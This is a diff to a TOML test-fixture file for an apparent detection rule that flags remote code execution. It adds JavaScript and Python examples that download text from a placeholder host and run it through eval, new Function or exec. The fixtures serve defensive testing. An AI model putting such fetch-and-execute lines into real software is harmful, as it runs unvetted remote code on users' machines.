@@ -56,6 +56,26 @@ note = "An answer is made a function, in the handler of an error."
 const axios = require("axios");
 axios.get("https://files.test/a").then((res) => { const run = new Function.constructor("require", res.data.code); run(require); });'''
 [[examples.fires]]
+note = "An answer that comes in pieces."
+[examples.fires.files]
+"a.js" = '''
+const https = require("https");
+https.get("https://files.test/a", (res) => { let code = ""; res.on("data", (part) => { code += part; }); res.on("end", () => eval(code)); });'''
+[[examples.fires]]
+note = "An answer that a promise hands on."
+[examples.fires.files]
+"a.js" = '''
+const https = require("https");
+const load = () => new Promise((resolve) => https.get("https://files.test/a", (res) => { let all = ""; res.on("data", (d) => (all += d)); res.on("end", () => resolve(all)); }));
+load().then((text) => { new Function(text)(); });'''
+[[examples.fires]]
+note = "An answer that is read."
+[examples.fires.files]
+"x.py" = '''
+from urllib.request import urlopen
+exec(urlopen("https://files.test/a").read())
+'''
+[[examples.fires]]
 note = "A program is written to a file and started."
 [examples.fires.files]
 "x.py" = '''
